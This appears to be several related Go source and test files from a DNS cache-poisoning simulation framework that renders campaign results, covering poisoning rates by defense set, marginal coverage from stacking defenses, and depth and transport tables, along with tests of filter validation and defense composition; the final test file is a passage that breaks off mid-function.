	rep := report.New("campaign-lattice", "Campaign defense-stacking lattice")

	setCols := []report.Column{
		report.Col("Defense set", report.KindString),
		report.Col("Rank", report.KindInt),
	}
	for _, m := range methods {
		setCols = append(setCols, report.Col(m, report.KindRatio))
	}
	setsSec := rep.AddSection(report.Table("lattice-sets",
		"Campaign lattice: poisoning success by defense set × method (over victims × profiles × depths × placements)",
		setCols...))
	for _, s := range sets {
		row := []any{s, setRank(s)}
		for _, m := range methods {
			row = append(row, agg[mk{m, s}])
		}
		setsSec.Add(row...)
	}

	margCols := []report.Column{
		report.Col("Defense", report.KindString),
		report.Col("On top of", report.KindString),
	}
	for _, m := range methods {
		margCols = append(margCols, report.Col(m, report.KindPP))
	}
	margSec := rep.AddSection(report.Table("lattice-marginal",
		"Campaign lattice: marginal coverage — Δ poisoning (pp) from stacking each defense on every measured subset",
		margCols...))
	for _, d := range presentBaseDefenses(sets) {
		for _, s := range sets {
			if setContains(s, d) {
				continue
			}
			super := DefenseSetKey(append(setComponents(s), d))
			if !seenS[super] {
				continue
			}
			row := []any{d, s}
			for _, m := range methods {
				before, after := agg[mk{m, s}], agg[mk{m, super}]
				if before.Total == 0 || after.Total == 0 {
					row = append(row, nil)
					continue
				}
				row = append(row, 100*(before.Frac()-after.Frac()))
			}
			margSec.Add(row...)
		}
	}
	return rep
}

// setComponents splits a canonical set key into its base-defense keys
// (empty for "none").
func setComponents(key string) []string {
	if key == NoDefenseKey || key == "" {
		return nil
	}
	return strings.Split(key, "+")
}

// setRank returns the number of defenses stacked in a canonical set
// key.
func setRank(key string) int { return len(setComponents(key)) }

// setContains reports whether the canonical set key stacks the base
// defense.
func setContains(key, base string) bool {
	for _, c := range setComponents(key) {
		if c == base {
			return true
		}
	}
	return false
}

// presentBaseDefenses returns the base defenses appearing in any of
// the measured set keys, in base-registry order — the rows of the
// marginal table.
func presentBaseDefenses(setKeys []string) []string {
	present := map[string]bool{}
	for _, s := range setKeys {
		for _, c := range setComponents(s) {
			present[c] = true
		}
	}
	var out []string
	for _, d := range scenario.BaseDefenses() {
		if present[d.Key] {
			out = append(out, d.Key)
		}
	}
	return out
}
