package campaign

import (
	"fmt"
	"strings"

	"crosslayer/internal/scenario"
	"crosslayer/internal/stats"
)

// LatticeResult is the rendered defense-stacking report: per-set
// poisoning rates and the marginal coverage every base defense adds on
// top of every measured subset. String() concatenates both tables —
// the artifact pinned as testdata/golden/campaign_lattice.txt.
type LatticeResult struct {
	// Sets is the per-set success table: one row per defense set in
	// sweep order, one poisoning-rate column per method, aggregated
	// over victims, profiles, chain depths and placements.
	Sets *stats.Table
	// Marginal is the marginal-coverage table: for each base defense d
	// and each measured subset S not containing d (with S ∪ {d} also
	// measured), the per-method drop in poisoning rate caused by
	// stacking d on top of S, in percentage points. Positive values
	// mean d blocks attacks the subset still let through; 0pp on a
	// already-clean subset means d is redundant there.
	Marginal *stats.Table
}

// String renders both lattice tables, blank-line separated.
func (l LatticeResult) String() string { return l.Sets.String() + "\n" + l.Marginal.String() }

// Lattice renders the defense-stacking view of a campaign run: which
// sets stop which methods, and what each defense contributes beyond
// every subset it can extend. At lattice rank 1 the Sets table
// degenerates to the historical scalar method × defense summary
// (transposed) and Marginal only reports each defense against the
// undefended baseline.
func Lattice(results []CellResult) LatticeResult {
	type mk struct{ method, set string }
	agg := map[mk]stats.Counter{}
	var methods, sets []string
	seenM, seenS := map[string]bool{}, map[string]bool{}
	for _, r := range results {
		if !seenM[r.Method] {
			seenM[r.Method] = true
			methods = append(methods, r.Method)
		}
		if !seenS[r.Defense] {
			seenS[r.Defense] = true
			sets = append(sets, r.Defense)
		}
		k := mk{r.Method, r.Defense}
		agg[k] = agg[k].Plus(r.Poisoned)
	}

	setsTbl := &stats.Table{
		Title:  "Campaign lattice: poisoning success by defense set × method (over victims × profiles × depths × placements)",
		Header: append([]string{"Defense set", "Rank"}, methods...),
	}
	for _, s := range sets {
		row := []string{s, fmt.Sprintf("%d", setRank(s))}
		for _, m := range methods {
			row = append(row, agg[mk{m, s}].Cell())
		}
		setsTbl.Add(row...)
	}

	marginal := &stats.Table{
		Title:  "Campaign lattice: marginal coverage — Δ poisoning (pp) from stacking each defense on every measured subset",
		Header: append([]string{"Defense", "On top of"}, methods...),
	}
	for _, d := range presentBaseDefenses(sets) {
		for _, s := range sets {
			if setContains(s, d) {
				continue
			}
			super := DefenseSetKey(append(setComponents(s), d))
			if !seenS[super] {
				continue
			}
			row := []string{d, s}
			for _, m := range methods {
				before, after := agg[mk{m, s}], agg[mk{m, super}]
				if before.Total == 0 || after.Total == 0 {
					row = append(row, "n/a")
					continue
				}
				row = append(row, fmt.Sprintf("%+.0fpp", 100*(before.Frac()-after.Frac())))
			}
			marginal.Add(row...)
		}
	}
	return LatticeResult{Sets: setsTbl, Marginal: marginal}
}

// setComponents splits a canonical set key into its base-defense keys
// (empty for "none").
func setComponents(key string) []string {
	if key == NoDefenseKey || key == "" {
		return nil
	}
	return strings.Split(key, "+")
}

// setRank returns the number of defenses stacked in a canonical set
// key.
func setRank(key string) int { return len(setComponents(key)) }

// setContains reports whether the canonical set key stacks the base
// defense.
func setContains(key, base string) bool {
	for _, c := range setComponents(key) {
		if c == base {
			return true
		}
	}
	return false
}

// presentBaseDefenses returns the base defenses appearing in any of
// the measured set keys, in base-registry order — the rows of the
// marginal table.
func presentBaseDefenses(setKeys []string) []string {
	present := map[string]bool{}
	for _, s := range setKeys {
		for _, c := range setComponents(s) {
			present[c] = true
		}
	}
	var out []string
	for _, d := range scenario.BaseDefenses() {
		if present[d.Key] {
			out = append(out, d.Key)
		}
	}
	return out
}
