package campaign_test

import (
	"reflect"
	"strings"
	"testing"

	"crosslayer/internal/campaign"
	"crosslayer/internal/measure"
	"crosslayer/internal/scenario"
)

// keysOf flattens a lattice into its canonical set keys.
func keysOf(sets []campaign.DefenseSet) []string {
	out := make([]string, len(sets))
	for i, s := range sets {
		out[i] = s.Key
	}
	return out
}

func TestDefenseSetsLatticeGeneration(t *testing.T) {
	base := scenario.BaseDefenses()

	// Rank 1 reproduces the historical scalar axis, in its order.
	scalar := keysOf(campaign.DefenseSets(base, 1))
	if want := []string{"none", "dnssec", "0x20", "no-rrl", "shuffle"}; !reflect.DeepEqual(scalar, want) {
		t.Fatalf("rank-1 lattice %v, want %v", scalar, want)
	}

	// The default lattice: baseline, singletons, all pairs, full stack.
	def := keysOf(campaign.DefaultDefenseSets())
	want := []string{"none", "dnssec", "0x20", "no-rrl", "shuffle",
		"0x20+dnssec", "dnssec+no-rrl", "dnssec+shuffle", "0x20+no-rrl",
		"0x20+shuffle", "no-rrl+shuffle", "0x20+dnssec+no-rrl+shuffle"}
	if !reflect.DeepEqual(def, want) {
		t.Fatalf("default lattice %v, want %v", def, want)
	}

	// Full rank is the whole power set: 2^4 subsets, no duplicates.
	full := keysOf(campaign.DefenseSets(base, len(base)))
	if len(full) != 16 {
		t.Fatalf("full power set has %d sets, want 16", len(full))
	}
	seen := map[string]bool{}
	for _, k := range full {
		if seen[k] {
			t.Fatalf("duplicate set %q", k)
		}
		seen[k] = true
	}
	// Oversized ranks clamp to the full power set.
	if got := keysOf(campaign.DefenseSets(base, 99)); !reflect.DeepEqual(got, full) {
		t.Fatalf("rank 99 differs from full power set")
	}

	// Set keys are canonical: sorted components, and every set carries
	// the specs that build it.
	for _, s := range campaign.DefaultDefenseSets() {
		if got := campaign.DefenseSetKey(keysOfSpecs(s.Specs)); got != s.Key {
			t.Fatalf("set key %q not canonical (re-canonicalises to %q)", s.Key, got)
		}
		if s.Rank() != len(s.Specs) {
			t.Fatalf("set %q rank %d with %d specs", s.Key, s.Rank(), len(s.Specs))
		}
	}
}

func keysOfSpecs(specs []scenario.DefenseSpec) []string {
	out := make([]string, len(specs))
	for i, d := range specs {
		out[i] = d.Key
	}
	return out
}

func TestDefenseSetKeyCanonicalisation(t *testing.T) {
	cases := map[string][]string{
		"none":         nil,
		"0x20":         {"0x20"},
		"0x20+shuffle": {"shuffle", "0x20"},
		"0x20+dnssec":  {"DNSSEC", " 0x20 ", "dnssec"},
	}
	for want, in := range cases {
		if got := campaign.DefenseSetKey(in); got != want {
			t.Errorf("DefenseSetKey(%v) = %q, want %q", in, got, want)
		}
	}
}

// TestDefenseSetFilterPlansExactSets: the set filter addresses exact
// stacks (any order/case), regardless of lattice rank, in lattice
// enumeration order.
func TestDefenseSetFilterPlansExactSets(t *testing.T) {
	cells, err := campaign.Cells(campaign.Filter{
		Methods: []string{"hijack"}, Victims: []string{"web"}, Profiles: []string{"bind"},
		DefenseSets: []string{"shuffle+0x20", "NONE", "dnssec+no-rrl+0x20+shuffle"},
		ChainDepths: []string{"0"}, Placements: []string{"stub"},
		Transports: []string{"udp"},
	})
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, c := range cells {
		got = append(got, c.Defenses.Key)
	}
	want := []string{"none", "0x20+shuffle", "0x20+dnssec+no-rrl+shuffle"}
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("planned sets %v, want %v", got, want)
	}
}

// TestDefenseBaseFilterBoundsLattice: the base filter regenerates the
// lattice over the named defenses only; "none" stays accepted (the
// baseline is always part of the lattice).
func TestDefenseBaseFilterBoundsLattice(t *testing.T) {
	cells, err := campaign.Cells(campaign.Filter{
		Methods: []string{"hijack"}, Victims: []string{"web"}, Profiles: []string{"bind"},
		Defenses:    []string{"none", "0x20", "shuffle"},
		ChainDepths: []string{"0"}, Placements: []string{"stub"},
		Transports: []string{"udp"},
	})
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, c := range cells {
		got = append(got, c.Defenses.Key)
	}
	want := []string{"none", "0x20", "shuffle", "0x20+shuffle"}
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("planned sets %v, want %v", got, want)
	}
	// Only "none": the lattice degenerates to the baseline.
	cells, err = campaign.Cells(campaign.Filter{
		Methods: []string{"hijack"}, Victims: []string{"web"}, Profiles: []string{"bind"},
		Defenses: []string{"none"}, ChainDepths: []string{"0"}, Placements: []string{"stub"},
		Transports: []string{"udp"},
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(cells) != 1 || cells[0].Defenses.Key != "none" {
		t.Fatalf("none-only filter planned %d cells", len(cells))
	}
}

// TestDefenseSetFilterByteIdenticalAcrossParallelism is the tentpole
// acceptance contract: a defense-set-filtered sweep reproduces the
// full default-lattice sweep's cells exactly — identical raw results,
// byte-identical rendering — at parallelism 1 and N, because cell
// seeds derive from the canonical set key, never from sweep position.
func TestDefenseSetFilterByteIdenticalAcrossParallelism(t *testing.T) {
	corner := campaign.Filter{Methods: []string{"hijack"}, Victims: []string{"web"},
		Profiles: []string{"bind"}, ChainDepths: []string{"0"}, Placements: []string{"stub"},
		Transports: []string{"udp"}}
	full, err := campaign.Run(campaign.Config{
		Exec: measure.Config{Seed: 31, Parallelism: 1}, Filter: corner, Trials: 2})
	if err != nil {
		t.Fatal(err)
	}
	byKey := map[string]campaign.CellResult{}
	for _, r := range full {
		byKey[r.Defense] = r
	}
	filter := corner
	filter.DefenseSets = []string{"shuffle+0x20", "none", "dnssec"}
	var ref []campaign.CellResult
	for _, p := range []int{1, 8} {
		res, err := campaign.Run(campaign.Config{
			Exec: measure.Config{Seed: 31, Parallelism: p}, Filter: filter, Trials: 2})
		if err != nil {
			t.Fatal(err)
		}
		if len(res) != 3 {
			t.Fatalf("parallelism %d: %d cells, want 3", p, len(res))
		}
		for _, r := range res {
			fullCell, ok := byKey[r.Defense]
			if !ok {
				t.Fatalf("set %q missing from full sweep", r.Defense)
			}
			if !reflect.DeepEqual(r, fullCell) {
				t.Fatalf("parallelism %d: set filter changed cell %q:\n%+v\n%+v", p, r.Defense, r, fullCell)
			}
		}
		if ref == nil {
			ref = res
		} else if !reflect.DeepEqual(res, ref) {
			t.Fatalf("parallelism %d changed filtered sweep results", p)
		}
	}
}

// TestCampaignStackingStory pins the composition semantics the lattice
// measures: 0x20 stops SadDNS but not FragDNS, answer shuffling stops
// FragDNS but not SadDNS, and the 0x20+shuffle stack stops both —
// each defense's marginal coverage on top of the other is exactly the
// method the other misses.
func TestCampaignStackingStory(t *testing.T) {
	res, err := campaign.Run(campaign.Config{
		Exec: measure.Config{Seed: 13},
		Filter: campaign.Filter{Methods: []string{"saddns", "frag"},
			Victims: []string{"web"}, Profiles: []string{"bind"},
			DefenseSets: []string{"none", "0x20", "shuffle", "0x20+shuffle"},
			ChainDepths: []string{"0"}, Placements: []string{"stub"},
			Transports: []string{"udp"}},
		Trials: 2,
	})
	if err != nil {
		t.Fatal(err)
	}
	rate := map[string]float64{}
	for _, r := range res {
		rate[r.Method+"/"+r.Defense] = r.Poisoned.Frac()
	}
	want := map[string]bool{ // does the method still poison under the set?
		"saddns/none": true, "saddns/0x20": false, "saddns/shuffle": true, "saddns/0x20+shuffle": false,
		"frag/none": true, "frag/0x20": true, "frag/shuffle": false, "frag/0x20+shuffle": false,
	}
	for k, poisons := range want {
		got, ok := rate[k]
		if !ok {
			t.Fatalf("cell %s missing", k)
		}
		if poisons && got == 0 {
			t.Errorf("%s: method should still poison, rate 0", k)
		}
		if !poisons && got > 0 {
			t.Errorf("%s: defense set should stop the method, rate %.0f%%", k, got*100)
		}
	}

	// The marginal table must render those composition facts: stacking
	// shuffle on 0x20 only covers frag, stacking 0x20 on shuffle only
	// covers saddns. Method columns follow filter (registry) order:
	// saddns, then frag.
	lat := campaign.Lattice(res)
	margSec := lat.Section("lattice-marginal")
	marginal := func(defense, onTopOf string) []string {
		for _, row := range margSec.CellStrings() {
			if row[0] == defense && row[1] == onTopOf {
				return row[2:]
			}
		}
		t.Fatalf("marginal row %q on %q missing:\n%s", defense, onTopOf, margSec.Text())
		return nil
	}
	if row := marginal("shuffle", "0x20"); row[0] != "+0pp" || row[1] != "+100pp" {
		t.Errorf("shuffle on 0x20: got %v, want [+0pp +100pp]", row)
	}
	if row := marginal("0x20", "shuffle"); row[0] != "+100pp" || row[1] != "+0pp" {
		t.Errorf("0x20 on shuffle: got %v, want [+100pp +0pp]", row)
	}
	if row := marginal("0x20", "none"); row[0] != "+100pp" || row[1] != "+0pp" {
		t.Errorf("0x20 on none: got %v, want [+100pp +0pp]", row)
	}
}

// TestFilterErrorsListValidKeys covers the selected() error paths of
// every dimension: an unknown key must fail with a message naming the
// offending key AND the dimension's valid registry keys.
func TestFilterErrorsListValidKeys(t *testing.T) {
	cases := []struct {
		name   string
		filter campaign.Filter
		want   []string // substrings the error must carry
	}{
		{"method", campaign.Filter{Methods: []string{"sadness"}},
			[]string{"method", "sadness", "valid:", "hijack", "saddns", "frag"}},
		{"victim", campaign.Filter{Victims: []string{"toaster"}},
			[]string{"victim", "toaster", "valid:", "web", "smtp"}},
		{"profile", campaign.Filter{Profiles: []string{"djbdns"}},
			[]string{"profile", "djbdns", "valid:", "bind", "dnsmasq"}},
		{"defense", campaign.Filter{Defenses: []string{"0x21"}},
			[]string{"defense", "0x21", "valid:", "none", "dnssec", "0x20", "no-rrl", "shuffle"}},
		{"defense-set", campaign.Filter{DefenseSets: []string{"0x20+tinfoil"}},
			[]string{"defense-set", "0x20+tinfoil", "valid:", "none", "0x20+shuffle"}},
		{"chain-depth", campaign.Filter{ChainDepths: []string{"7"}},
			[]string{"chain-depth", "7", "valid:", "0", "3"}},
		{"placement", campaign.Filter{Placements: []string{"moon"}},
			[]string{"placement", "moon", "valid:", "stub", "carrier"}},
		{"transport", campaign.Filter{Transports: []string{"quic"}},
			[]string{"transport", "quic", "valid:", "udp", "dot", "doh", "doq", "mixed", "opp"}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			_, err := campaign.Cells(c.filter)
			if err == nil {
				t.Fatalf("unknown %s key accepted", c.name)
			}
			for _, w := range c.want {
				if !strings.Contains(err.Error(), w) {
					t.Errorf("error %q does not mention %q", err, w)
				}
			}
		})
	}

	// The two defense filters are mutually exclusive.
	_, err := campaign.Cells(campaign.Filter{
		Defenses: []string{"0x20"}, DefenseSets: []string{"0x20+shuffle"}})
	if err == nil || !strings.Contains(err.Error(), "mutually exclusive") {
		t.Fatalf("combined defense filters: %v", err)
	}

	// Whitespace-only defense and defense-set filters are rejected,
	// not silently widened to "all".
	if _, err := campaign.Cells(campaign.Filter{Defenses: []string{"  "}}); err == nil {
		t.Fatal("whitespace-only defense filter accepted")
	}
	if _, err := campaign.Cells(campaign.Filter{DefenseSets: []string{" "}}); err == nil {
		t.Fatal("whitespace-only defense-set filter accepted")
	}
}
