package campaign

import (
	"sort"

	"crosslayer/internal/deploy"
	"crosslayer/internal/report"
	"crosslayer/internal/stats"
)

// deploymentOf returns the result's deployment-dataset key, mapping
// the empty key (results from pre-axis checkpoints) to canonical.
func deploymentOf(r CellResult) string {
	if r.Deployment == "" {
		return deploy.CanonicalKey
	}
	return r.Deployment
}

// Matrix builds the full per-cell success-rate/cost matrix: the
// campaign's extension of Tables 1 and 6. Poisoned is the chain cache
// ground truth over the cell's trials, Impact the application-level
// outcome check, and the cost columns are per-trial percentiles of
// attack rounds, attacker packets and virtual attack time. A Dataset
// column appears only when the results span a sampled deployment
// population — all-canonical sweeps keep the historical byte-exact
// shape.
func Matrix(results []CellResult) *report.Report {
	withDeploy := false
	for _, r := range results {
		if deploymentOf(r) != deploy.CanonicalKey {
			withDeploy = true
			break
		}
	}
	cols := []report.Column{
		report.Col("Method", report.KindString),
		report.Col("Victim", report.KindString),
		report.Col("Profile", report.KindString),
		report.Col("Defense", report.KindString),
		report.Col("Depth", report.KindString),
		report.Col("Placement", report.KindString),
		report.Col("Transport", report.KindString),
	}
	if withDeploy {
		cols = append(cols, report.Col("Dataset", report.KindString))
	}
	cols = append(cols,
		report.Col("Poisoned", report.KindRatio),
		report.Col("Impact", report.KindRatio),
		report.Col("Iter p50", report.KindRound),
		report.Col("Pkts p50", report.KindRound),
		report.Col("Time p50", report.KindSeconds),
		report.Col("Time p95", report.KindSeconds))
	rep := report.New("campaign", "Campaign matrix")
	sec := rep.AddSection(report.Table("matrix",
		"Campaign matrix: method × victim × profile × defense × chain depth × placement × transport",
		cols...))
	for _, r := range results {
		row := []any{r.Method, r.Victim, r.Profile, r.Defense, r.Depth, r.Placement, r.Transport}
		if withDeploy {
			row = append(row, deploymentOf(r))
		}
		row = append(row,
			r.Poisoned, r.Impact,
			r.Iterations.Quantile(0.5),
			r.Packets.Quantile(0.5),
			r.Seconds.Quantile(0.5),
			r.Seconds.Quantile(0.95))
		sec.Add(row...)
	}
	return rep
}

// DeployTable builds the deployment view of the sweep — the paper's
// population question: for each method, the poisoning rate under
// every deployment dataset present in the results (sweep order),
// aggregated over victims, profiles, defenses, depths, placements and
// transports, rendered as rate ± the 95% Wilson confidence half-width
// (stats.Counter.Wilson). Canonical cells answer "is this
// configuration vulnerable"; sampled datasets answer "what fraction
// of a deployed population is", and the CI says how much the per-cell
// sample sizes let you conclude.
func DeployTable(results []CellResult) *report.Report {
	type md struct{ method, dataset string }
	agg := map[md]stats.Counter{}
	var methods, datasets []string
	seenM, seenD := map[string]bool{}, map[string]bool{}
	for _, r := range results {
		dpl := deploymentOf(r)
		if !seenM[r.Method] {
			seenM[r.Method] = true
			methods = append(methods, r.Method)
		}
		if !seenD[dpl] {
			seenD[dpl] = true
			datasets = append(datasets, dpl)
		}
		k := md{r.Method, dpl}
		agg[k] = agg[k].Plus(r.Poisoned)
	}
	cols := []report.Column{report.Col("Method", report.KindString)}
	for _, d := range datasets {
		cols = append(cols, report.Col(d, report.KindRatioCI))
	}
	rep := report.New("campaign-deploy", "Campaign method × deployment-dataset table")
	sec := rep.AddSection(report.Table("deploy",
		"Campaign deployments: poisoning rate ±95% CI by method × deployment dataset (over victims × profiles × defenses × depths × placements × transports)",
		cols...))
	for _, m := range methods {
		row := []any{m}
		for _, d := range datasets {
			row = append(row, agg[md{m, d}])
		}
		sec.Add(row...)
	}
	return rep
}

// DepthTable builds the depth-vs-success view of the sweep: for each
// method × attacker placement, the poisoning rate at every chain depth
// present in the results, aggregated over victims, profiles and
// defenses — the one-screen answer to "does a forwarder chain make the
// attack easier, and from where".
func DepthTable(results []CellResult) *report.Report {
	type mp struct{ method, placement string }
	type cell struct {
		mp    mp
		depth string
	}
	agg := map[cell]stats.Counter{}
	var rows []mp
	var depths []string
	seenRow, seenDepth := map[mp]bool{}, map[string]bool{}
	for _, r := range results {
		k := mp{r.Method, r.Placement}
		if !seenRow[k] {
			seenRow[k] = true
			rows = append(rows, k)
		}
		if !seenDepth[r.Depth] {
			seenDepth[r.Depth] = true
			depths = append(depths, r.Depth)
		}
		c := cell{k, r.Depth}
		agg[c] = agg[c].Plus(r.Poisoned)
	}
	sort.Strings(depths)
	cols := []report.Column{
		report.Col("Method", report.KindString),
		report.Col("Placement", report.KindString),
	}
	for _, d := range depths {
		cols = append(cols, report.Col("depth "+d, report.KindRatio))
	}
	rep := report.New("campaign-depth", "Campaign chain-depth table")
	sec := rep.AddSection(report.Table("depth",
		"Campaign chains: poisoning success by method × placement × chain depth (over victims × profiles × defenses)",
		cols...))
	for _, k := range rows {
		row := []any{k.method, k.placement}
		for _, d := range depths {
			row = append(row, agg[cell{k, d}])
		}
		sec.Add(row...)
	}
	return rep
}

// TransportTable builds the transport-vs-success view of the sweep:
// for each method, the poisoning rate under every upstream transport
// present in the results (sweep order), aggregated over victims,
// profiles, defenses, depths and placements — the one-screen answer to
// "which attacks survive which upstream transports, and what does a
// plaintext front hop give back".
func TransportTable(results []CellResult) *report.Report {
	type mt struct{ method, transport string }
	agg := map[mt]stats.Counter{}
	var methods, transports []string
	seenM, seenT := map[string]bool{}, map[string]bool{}
	for _, r := range results {
		if !seenM[r.Method] {
			seenM[r.Method] = true
			methods = append(methods, r.Method)
		}
		if !seenT[r.Transport] {
			seenT[r.Transport] = true
			transports = append(transports, r.Transport)
		}
		k := mt{r.Method, r.Transport}
		agg[k] = agg[k].Plus(r.Poisoned)
	}
	cols := []report.Column{report.Col("Method", report.KindString)}
	for _, t := range transports {
		cols = append(cols, report.Col(t, report.KindRatio))
	}
	rep := report.New("campaign-transport", "Campaign method × transport table")
	sec := rep.AddSection(report.Table("transport",
		"Campaign transports: poisoning success by method × upstream transport (over victims × profiles × defenses × depths × placements)",
		cols...))
	for _, m := range methods {
		row := []any{m}
		for _, t := range transports {
			row = append(row, agg[mt{m, t}])
		}
		sec.Add(row...)
	}
	return rep
}

// Summary builds the method × defense poisoning-rate matrix,
// aggregated over every victim, profile, chain depth and placement in
// the results — the one-screen answer to "which defense stops which
// method".
func Summary(results []CellResult) *report.Report {
	type mk struct{ method, defense string }
	agg := map[mk]stats.Counter{}
	var methods, defenses []string
	seenM, seenD := map[string]bool{}, map[string]bool{}
	for _, r := range results {
		if !seenM[r.Method] {
			seenM[r.Method] = true
			methods = append(methods, r.Method)
		}
		if !seenD[r.Defense] {
			seenD[r.Defense] = true
			defenses = append(defenses, r.Defense)
		}
		k := mk{r.Method, r.Defense}
		agg[k] = agg[k].Plus(r.Poisoned)
	}
	cols := []report.Column{report.Col("Method", report.KindString)}
	for _, d := range defenses {
		cols = append(cols, report.Col(d, report.KindRatio))
	}
	rep := report.New("campaign-summary", "Campaign method × defense summary")
	sec := rep.AddSection(report.Table("summary",
		"Campaign summary: poisoning success by method × defense (over victims × profiles × depths × placements)",
		cols...))
	for _, m := range methods {
		row := []any{m}
		for _, d := range defenses {
			row = append(row, agg[mk{m, d}])
		}
		sec.Add(row...)
	}
	return rep
}
