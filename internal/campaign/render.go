package campaign

import (
	"fmt"
	"sort"

	"crosslayer/internal/stats"
)

// Matrix renders the full per-cell success-rate/cost matrix: the
// campaign's extension of Tables 1 and 6. Poisoned is the chain cache
// ground truth over the cell's trials, Impact the application-level
// outcome check, and the cost columns are per-trial percentiles of
// attack rounds, attacker packets and virtual attack time.
func Matrix(results []CellResult) *stats.Table {
	tbl := &stats.Table{
		Title: "Campaign matrix: method × victim × profile × defense × chain depth × placement",
		Header: []string{"Method", "Victim", "Profile", "Defense", "Depth", "Placement",
			"Poisoned", "Impact", "Iter p50", "Pkts p50", "Time p50", "Time p95"},
	}
	for _, r := range results {
		tbl.Add(r.Method, r.Victim, r.Profile, r.Defense, r.Depth, r.Placement,
			r.Poisoned.Cell(), r.Impact.Cell(),
			fmt.Sprintf("%.0f", r.Iterations.Quantile(0.5)),
			fmt.Sprintf("%.0f", r.Packets.Quantile(0.5)),
			fmtSeconds(r.Seconds.Quantile(0.5)),
			fmtSeconds(r.Seconds.Quantile(0.95)))
	}
	return tbl
}

// DepthTable renders the depth-vs-success view of the sweep: for each
// method × attacker placement, the poisoning rate at every chain depth
// present in the results, aggregated over victims, profiles and
// defenses — the one-screen answer to "does a forwarder chain make the
// attack easier, and from where".
func DepthTable(results []CellResult) *stats.Table {
	type mp struct{ method, placement string }
	type cell struct {
		mp    mp
		depth string
	}
	agg := map[cell]stats.Counter{}
	var rows []mp
	var depths []string
	seenRow, seenDepth := map[mp]bool{}, map[string]bool{}
	for _, r := range results {
		k := mp{r.Method, r.Placement}
		if !seenRow[k] {
			seenRow[k] = true
			rows = append(rows, k)
		}
		if !seenDepth[r.Depth] {
			seenDepth[r.Depth] = true
			depths = append(depths, r.Depth)
		}
		c := cell{k, r.Depth}
		agg[c] = agg[c].Plus(r.Poisoned)
	}
	sort.Strings(depths)
	header := []string{"Method", "Placement"}
	for _, d := range depths {
		header = append(header, "depth "+d)
	}
	tbl := &stats.Table{
		Title:  "Campaign chains: poisoning success by method × placement × chain depth (over victims × profiles × defenses)",
		Header: header,
	}
	for _, k := range rows {
		row := []string{k.method, k.placement}
		for _, d := range depths {
			row = append(row, agg[cell{k, d}].Cell())
		}
		tbl.Add(row...)
	}
	return tbl
}

// Summary renders the method × defense poisoning-rate matrix,
// aggregated over every victim, profile, chain depth and placement in
// the results — the one-screen answer to "which defense stops which
// method".
func Summary(results []CellResult) *stats.Table {
	type mk struct{ method, defense string }
	agg := map[mk]stats.Counter{}
	var methods, defenses []string
	seenM, seenD := map[string]bool{}, map[string]bool{}
	for _, r := range results {
		if !seenM[r.Method] {
			seenM[r.Method] = true
			methods = append(methods, r.Method)
		}
		if !seenD[r.Defense] {
			seenD[r.Defense] = true
			defenses = append(defenses, r.Defense)
		}
		k := mk{r.Method, r.Defense}
		agg[k] = agg[k].Plus(r.Poisoned)
	}
	tbl := &stats.Table{
		Title:  "Campaign summary: poisoning success by method × defense (over victims × profiles × depths × placements)",
		Header: append([]string{"Method"}, defenses...),
	}
	for _, m := range methods {
		row := []string{m}
		for _, d := range defenses {
			row = append(row, agg[mk{m, d}].Cell())
		}
		tbl.Add(row...)
	}
	return tbl
}

// fmtSeconds renders a virtual-time sample with millisecond
// resolution (attack times range from tens of milliseconds for a
// hijack to tens of seconds for a SadDNS scan).
func fmtSeconds(s float64) string { return fmt.Sprintf("%.3fs", s) }
