package campaign_test

import (
	"strings"
	"testing"

	"crosslayer/internal/campaign"
	"crosslayer/internal/measure"
)

// TestRenderEmptyResults: every renderer must survive a sweep that
// produced no cells (e.g. a future conditional filter) — headers only,
// no panic, no stray rows.
func TestRenderEmptyResults(t *testing.T) {
	if got := campaign.Matrix(nil); len(got.Rows) != 0 || got.String() == "" {
		t.Fatalf("empty matrix: %d rows\n%s", len(got.Rows), got)
	}
	if got := campaign.Summary(nil); len(got.Rows) != 0 || got.String() == "" {
		t.Fatalf("empty summary: %d rows\n%s", len(got.Rows), got)
	}
	if got := campaign.DepthTable(nil); len(got.Rows) != 0 || got.String() == "" {
		t.Fatalf("empty depth table: %d rows\n%s", len(got.Rows), got)
	}
	lat := campaign.Lattice(nil)
	if len(lat.Sets.Rows) != 0 || len(lat.Marginal.Rows) != 0 || lat.String() == "" {
		t.Fatalf("empty lattice: %d set rows, %d marginal rows", len(lat.Sets.Rows), len(lat.Marginal.Rows))
	}
}

// TestRenderSingleCell: a one-cell sweep renders a one-row matrix and
// one-row aggregates.
func TestRenderSingleCell(t *testing.T) {
	res, err := campaign.Run(campaign.Config{
		Exec: measure.Config{Seed: 5},
		Filter: campaign.Filter{Methods: []string{"hijack"}, Victims: []string{"web"},
			Profiles: []string{"bind"}, DefenseSets: []string{"none"},
			ChainDepths: []string{"0"}, Placements: []string{"stub"}},
		Trials: 1,
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(res) != 1 {
		t.Fatalf("%d cells, want 1", len(res))
	}
	if got := campaign.Matrix(res); len(got.Rows) != 1 {
		t.Fatalf("single-cell matrix has %d rows", len(got.Rows))
	}
	if got := campaign.Summary(res); len(got.Rows) != 1 || len(got.Header) != 2 {
		t.Fatalf("single-cell summary %d rows × %d cols", len(got.Rows), len(got.Header))
	}
	lat := campaign.Lattice(res)
	if len(lat.Sets.Rows) != 1 {
		t.Fatalf("single-cell lattice has %d set rows", len(lat.Sets.Rows))
	}
	// One baseline cell: nothing to take a marginal against.
	if len(lat.Marginal.Rows) != 0 {
		t.Fatalf("single-cell lattice has %d marginal rows", len(lat.Marginal.Rows))
	}
}

// TestDepthTableWithoutChainCells: a depth-0-only sweep renders a
// depth table with exactly the one depth column — no phantom chain
// columns.
func TestDepthTableWithoutChainCells(t *testing.T) {
	res, err := campaign.Run(campaign.Config{
		Exec: measure.Config{Seed: 6},
		Filter: campaign.Filter{Methods: []string{"hijack"}, Victims: []string{"web"},
			Profiles: []string{"bind"}, DefenseSets: []string{"none"},
			ChainDepths: []string{"0"}},
		Trials: 1,
	})
	if err != nil {
		t.Fatal(err)
	}
	tbl := campaign.DepthTable(res)
	if want := []string{"Method", "Placement", "depth 0"}; len(tbl.Header) != len(want) {
		t.Fatalf("depth-0-only header %v, want %v", tbl.Header, want)
	}
	if len(tbl.Rows) != 2 { // hijack × {stub, carrier}
